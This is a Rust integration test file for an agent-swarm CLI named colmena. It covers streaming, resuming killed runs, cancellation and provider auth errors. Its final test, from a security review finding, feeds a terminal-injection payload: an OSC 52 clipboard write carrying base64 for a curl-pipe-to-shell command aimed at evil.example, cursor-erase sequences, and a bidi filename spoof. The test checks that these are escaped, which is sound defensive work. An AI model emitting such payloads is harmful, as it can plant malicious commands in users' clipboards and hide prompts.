//! Runs through the `colmena` binary against the scripted provider: a
//! hierarchical swarm streamed to stdout, a process killed mid-run and
//! resumed by the next one, Ctrl-C, cancelling from another process, and a
//! provider that refuses the key.

#![allow(clippy::unwrap_used)]

mod common;

use std::io::{BufRead, BufReader};
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use colmena_scripted_llm::{Protocol, Rule, Script, ScriptedLlm};
use common::{colmena, ok_json, run};
use serde_json::Value;

/// The scripted provider on its own runtime, so tests can block.
struct Provider {
    llm: ScriptedLlm,
    _runtime: tokio::runtime::Runtime,
}

fn provider(script: Script) -> Provider {
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(1)
        .enable_all()
        .build()
        .unwrap();
    let llm = runtime.block_on(ScriptedLlm::start(script)).unwrap();
    Provider {
        llm,
        _runtime: runtime,
    }
}

/// The press-team script the E2E tests use too.
fn press_script() -> Script {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/fixtures/press-swarm.json");
    serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap()
}

/// A workspace with the provider as default model and the press swarm.
fn press_team(dir: &Path, provider: &Provider) {
    let base = provider.llm.base_url(Protocol::OpenAi);
    ok_json(colmena(dir).args([
        "provider",
        "add",
        "Scripted",
        "--kind",
        "openai",
        "--base-url",
        &base,
        "--api-key",
        common::KEY,
    ]));
    ok_json(colmena(dir).args(["model", "add", "scripted", "gpt-test"]));
    ok_json(colmena(dir).args(["model", "default", "scripted/gpt-test"]));
    for (name, prompt) in [
        ("Jefa", "You lead the press team."),
        ("Investigadora", "You research."),
        ("Redactora", "You write."),
    ] {
        ok_json(colmena(dir).args(["agent", "add", name, "--system-prompt", prompt]));
    }
    ok_json(colmena(dir).args([
        "swarm",
        "create",
        "Prensa",
        "--strategy",
        "hierarchical",
        "--orchestrator",
        "jefa",
        "--members",
        "investigadora,redactora",
    ]));
}

fn events(stdout: &[u8]) -> Vec<Value> {
    String::from_utf8_lossy(stdout)
        .lines()
        .map(|l| {
            serde_json::from_str(l)
                .unwrap_or_else(|e| panic!("not one JSON event per line ({e}): {l}"))
        })
        .collect()
}

/// Starts `colmena --json …` and reads its events until `stop` says so.
fn spawn_until(cmd: &mut Command, stop: impl Fn(&Value) -> bool) -> (Child, Vec<Value>) {
    let mut child = cmd
        .arg("--json")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
    let mut seen = Vec::new();
    for line in lines.by_ref() {
        let event: Value = serde_json::from_str(&line.unwrap()).unwrap();
        let done = stop(&event);
        seen.push(event);
        if done {
            // Keep the pipe drained so the process never blocks on a full pipe.
            std::thread::spawn(move || for _ in lines {});
            return (child, seen);
        }
    }
    let _ = child.wait();
    panic!("the run ended before the awaited event: {seen:?}");
}

fn is(event: &Value, kind: &str, agent: &str) -> bool {
    event["type"] == kind && event["agentId"] == agent
}

#[test]
fn a_hierarchical_swarm_runs_from_the_cli_with_every_step_streamed() {
    let provider = provider(press_script());
    let dir = tempfile::tempdir().unwrap();
    press_team(dir.path(), &provider);

    let out = run(colmena(dir.path()).args([
        "--json",
        "swarm",
        "run",
        "prensa",
        "Make a tweet about bees",
    ]));
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let events = events(&out.stdout);
    assert_eq!(events[0]["type"], "started");
    assert_eq!(events[0]["kind"], "swarm");
    let last = events.last().unwrap();
    assert_eq!(last["type"], "finished");
    assert_eq!(last["status"], "completed");
    assert_eq!(
        last["output"],
        "Here is the tweet: Bees dance to talk, see ultraviolet and make honey. 🐝"
    );
    for agent in ["jefa", "investigadora", "redactora"] {
        assert!(
            events.iter().any(|e| is(e, "text_delta", agent)),
            "{agent} streamed its text"
        );
    }
    let delegations: Vec<&Value> = events.iter().filter(|e| e["type"] == "tool_call").collect();
    assert_eq!(delegations.len(), 2);
    let arguments: Value =
        serde_json::from_str(delegations[1]["arguments"].as_str().unwrap()).unwrap();
    assert_eq!(
        arguments["agent_id"], "redactora",
        "arguments split in pieces arrive whole"
    );

    // For people: who speaks, what they call, and the outcome.
    let out = run(colmena(dir.path()).args(["swarm", "run", "prensa", "Again"]));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success());
    for needle in [
        "▶ swarm prensa",
        "[jefa]",
        "[investigadora]",
        "[redactora]",
        "→ delegate_task",
        "— completed",
    ] {
        assert!(text.contains(needle), "{needle} in:\n{text}");
    }

    let history = ok_json(colmena(dir.path()).args(["swarm", "history", "prensa"]));
    assert_eq!(history.as_array().unwrap().len(), 2);
    let detail =
        ok_json(colmena(dir.path()).args(["runs", "show", history[0]["id"].as_str().unwrap()]));
    let children: Vec<&str> = detail["children"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["targetId"].as_str().unwrap())
        .collect();
    assert_eq!(children, ["investigadora", "redactora"]);
}

#[test]
fn h42_a_swarm_run_killed_mid_stream_is_resumed_by_the_next_process_from_its_checkpoint() {
    let mut script = press_script();
    // The writer answers slowly the first time (a minute of words): the
    // process is killed long before the end, however slow the machine.
    let never_finished = format!(
        "Bees dance to talk, and this answer never finishes because the process dies.{}",
        " Buzz.".repeat(150)
    );
    script.rules.insert(
        0,
        Rule::text(&never_finished)
            .when(colmena_scripted_llm::Matcher {
                system_contains: Some("You write.".into()),
                ..Default::default()
            })
            .slow(400),
    );
    let provider = provider(script);
    let dir = tempfile::tempdir().unwrap();
    press_team(dir.path(), &provider);

    let (mut child, seen) = spawn_until(
        colmena(dir.path()).args(["swarm", "run", "prensa", "Make a tweet about bees"]),
        |e| is(e, "text_delta", "redactora"),
    );
    child.kill().unwrap(); // SIGKILL
    child.wait().unwrap();
    let run_id = seen[0]["runId"].as_str().unwrap().to_owned();
    assert!(
        seen.iter().any(|e| is(e, "agent_output", "investigadora")),
        "the researcher had finished"
    );

    let resumable = ok_json(colmena(dir.path()).args(["runs", "resumable"]));
    let ids: Vec<&str> = resumable
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["id"].as_str().unwrap())
        .collect();
    assert_eq!(
        ids,
        [run_id.as_str()],
        "the next process offers the interrupted run"
    );
    assert_eq!(resumable[0]["status"], "interrupted");

    let out = run(colmena(dir.path()).args(["--json", "runs", "resume", &run_id]));
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let events = events(&out.stdout);
    let last = events.last().unwrap();
    assert_eq!(last["runId"], run_id.as_str(), "the same run goes on");
    assert_eq!(last["status"], "completed");
    assert!(
        !events.iter().any(|e| is(e, "text_delta", "investigadora")),
        "the researcher's finished work came from the checkpoint, not a second call"
    );

    let detail = ok_json(colmena(dir.path()).args(["runs", "show", &run_id]));
    assert_eq!(detail["run"]["status"], "completed");
    let children: Vec<(String, String)> = detail["children"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            (
                c["targetId"].as_str().unwrap().to_owned(),
                c["status"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    assert_eq!(
        children,
        [
            ("investigadora".to_owned(), "completed".to_owned()),
            ("redactora".to_owned(), "interrupted".to_owned()),
            ("redactora".to_owned(), "completed".to_owned()),
        ],
        "the killed delegation stays on record as interrupted"
    );
    assert!(
        ok_json(colmena(dir.path()).args(["runs", "resumable"]))
            .as_array()
            .unwrap()
            .is_empty()
    );
}

#[test]
fn ctrl_c_stops_the_run_which_ends_cancelled_with_its_exit_status() {
    // A minute of words: the run is stopped long before their end.
    let script = Script {
        rules: vec![Rule::text(&"word ".repeat(200)).slow(300).repeat()],
    };
    let provider = provider(script);
    let dir = tempfile::tempdir().unwrap();
    press_team(dir.path(), &provider);

    let (mut child, seen) = spawn_until(
        colmena(dir.path()).args(["agent", "run", "investigadora", "Count"]),
        |e| e["type"] == "text_delta",
    );
    let run_id = seen[0]["runId"].as_str().unwrap().to_owned();
    let pid = child.id().to_string();
    assert!(
        Command::new("kill")
            .args(["-INT", &pid])
            .status()
            .unwrap()
            .success()
    );
    let status = wait_for(&mut child, PATIENCE);
    assert_eq!(
        status.code(),
        Some(10),
        "the exit status of a cancelled run"
    );
    let detail = ok_json(colmena(dir.path()).args(["runs", "show", &run_id]));
    assert_eq!(detail["run"]["status"], "cancelled");
    // The server notices the dropped stream at its next write.
    let start = Instant::now();
    while provider.llm.disconnects() == 0 && start.elapsed() < PATIENCE {
        std::thread::sleep(Duration::from_millis(50));
    }
    assert!(
        provider.llm.disconnects() >= 1,
        "the HTTP stream was dropped, not read to its end"
    );
    assert_eq!(
        provider.llm.completed(),
        0,
        "the stream was read to its end"
    );
}

#[test]
fn a_run_in_another_process_is_cancelled_from_the_cli() {
    // A minute of words: the run is cancelled long before their end.
    let script = Script {
        rules: vec![Rule::text(&"word ".repeat(200)).slow(300).repeat()],
    };
    let provider = provider(script);
    let dir = tempfile::tempdir().unwrap();
    press_team(dir.path(), &provider);

    let (mut child, seen) = spawn_until(
        colmena(dir.path()).args(["agent", "run", "investigadora", "Talk"]),
        |e| e["type"] == "text_delta",
    );
    let run_id = seen[0]["runId"].as_str().unwrap().to_owned();
    let asked = ok_json(colmena(dir.path()).args(["runs", "cancel", &run_id]));
    assert_eq!(asked["ok"], true);
    let status = wait_for(&mut child, PATIENCE);
    assert_eq!(status.code(), Some(10));
    let detail = ok_json(colmena(dir.path()).args(["runs", "show", &run_id]));
    assert_eq!(detail["run"]["status"], "cancelled");

    let out = run(colmena(dir.path()).args(["--json", "runs", "cancel", &run_id]));
    assert_eq!(
        out.status.code(),
        Some(8),
        "a finished run cannot be cancelled"
    );
}

#[test]
fn a_provider_that_refuses_the_key_fails_the_run_clearly_and_is_recorded() {
    let provider = provider(Script {
        rules: vec![Rule::error(401, "Incorrect API key provided").repeat()],
    });
    let dir = tempfile::tempdir().unwrap();
    press_team(dir.path(), &provider);
    let out = run(colmena(dir.path()).args(["--json", "swarm", "run", "prensa", "go"]));
    // The provider's refusal is an upstream error (Colmena's own auth is
    // `unauthorized`), told apart by its reason.
    assert_eq!(out.status.code(), Some(9), "upstream");
    let error: Value = serde_json::from_slice(&out.stderr).unwrap();
    let message = error["error"]["message"].as_str().unwrap();
    assert!(
        message.contains("refused the API key") && message.contains("Incorrect API key provided"),
        "{message}"
    );
    assert_eq!(error["error"]["details"]["reason"], "auth_refused");
    let runs = ok_json(colmena(dir.path()).args(["runs", "list"]));
    assert_eq!(runs[0]["status"], "failed");
    assert_eq!(runs[0]["error"]["details"]["reason"], "auth_refused");
    assert!(
        runs[0]["error"]["details"]["providerId"].is_string(),
        "the refusal names its provider: {}",
        runs[0]["error"]
    );
    // Nothing else broke: the swarm and its agents are as they were.
    assert_eq!(
        ok_json(colmena(dir.path()).args(["swarm", "show", "prensa"]))["enabled"],
        true
    );
}

#[test]
fn chat_keeps_one_conversation_and_lists_it() {
    let provider = provider(Script {
        rules: vec![
            Rule::text("Nice to meet you, Ana.").when(colmena_scripted_llm::Matcher {
                last_user_contains: Some("I am Ana".into()),
                ..Default::default()
            }),
            Rule::text("You are Ana.").when(colmena_scripted_llm::Matcher {
                last_user_contains: Some("Who am I".into()),
                ..Default::default()
            }),
        ],
    });
    let dir = tempfile::tempdir().unwrap();
    press_team(dir.path(), &provider);
    let mut chat = colmena(dir.path())
        .args(["chat", "investigadora"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    {
        use std::io::Write;
        let mut stdin = chat.stdin.take().unwrap();
        writeln!(stdin, "I am Ana\n\nWho am I?\n/quit").unwrap();
    }
    let out = chat.wait_with_output().unwrap();
    assert!(out.status.success());
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("Nice to meet you, Ana.") && text.contains("You are Ana."),
        "{text}"
    );

    let list = ok_json(colmena(dir.path()).args(["conversation", "list", "--with-runs"]));
    assert_eq!(list.as_array().unwrap().len(), 1);
    let id = list[0]["id"].as_str().unwrap();
    assert_eq!(list[0]["agentId"], "investigadora");
    assert_eq!(list[0]["lastRun"]["status"], "completed");
    let history = ok_json(colmena(dir.path()).args(["conversation", "show", id]));
    assert_eq!(history.as_array().unwrap().len(), 4);
    // The second turn carried the first one to the model.
    let second = &provider.llm.requests()[1].body["messages"];
    assert_eq!(second.as_array().unwrap().len(), 4, "{second}");
}

/// A hang guard, not a timing claim: how long a test waits for something
/// that must happen before it gives up.
const PATIENCE: Duration = Duration::from_secs(60);

fn wait_for(child: &mut Child, limit: Duration) -> std::process::ExitStatus {
    let start = Instant::now();
    loop {
        if let Some(status) = child.try_wait().unwrap() {
            return status;
        }
        if start.elapsed() > limit {
            let _ = child.kill();
            panic!("the process did not stop within {limit:?}");
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// Security review finding 7: a model's text (or a tool's output) is shown,
/// never obeyed — OSC 52 (writes the clipboard), cursor-up and erase-line
/// (would hide the approval question) and a bidi override reach the
/// terminal as visible escapes, in the run's stream and in `runs show`.
#[test]
fn escape_sequences_a_model_writes_are_printed_escaped() {
    let attack = "Summary ready.\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUvaW5zdGFsbC5zaCB8IHNo\u{7}\u{1b}[1A\u{1b}[2K read\u{202e}txt.exe";
    let provider = provider(Script {
        rules: vec![Rule::text(attack).repeat()],
    });
    let dir = tempfile::tempdir().unwrap();
    press_team(dir.path(), &provider);
    let out = run(colmena(dir.path()).args(["agent", "run", "redactora", "summarise"]));
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    for (stream, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
        assert!(!bytes.contains(&0x1b), "{stream} carries a raw ESC");
        assert!(!bytes.contains(&0x07), "{stream} carries a raw BEL");
        let text = String::from_utf8_lossy(bytes);
        assert!(
            !text.contains('\u{202e}'),
            "{stream} carries a bidi override"
        );
    }
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("\\u{1B}]52;c;")
            && text.contains("\\u{1B}[1A")
            && text.contains("\\u{202E}txt.exe"),
        "{text}"
    );
    let runs = ok_json(colmena(dir.path()).args(["runs", "list"]));
    let id = runs[0]["id"].as_str().unwrap();
    let shown = run(colmena(dir.path()).args(["runs", "show", id]));
    assert!(!shown.stdout.contains(&0x1b), "runs show carries a raw ESC");
    // JSON stays JSON: the encoder escapes the control characters itself.
    let json = ok_json(colmena(dir.path()).args(["runs", "show", id]));
    assert!(json.to_string().contains("Summary ready."));
}
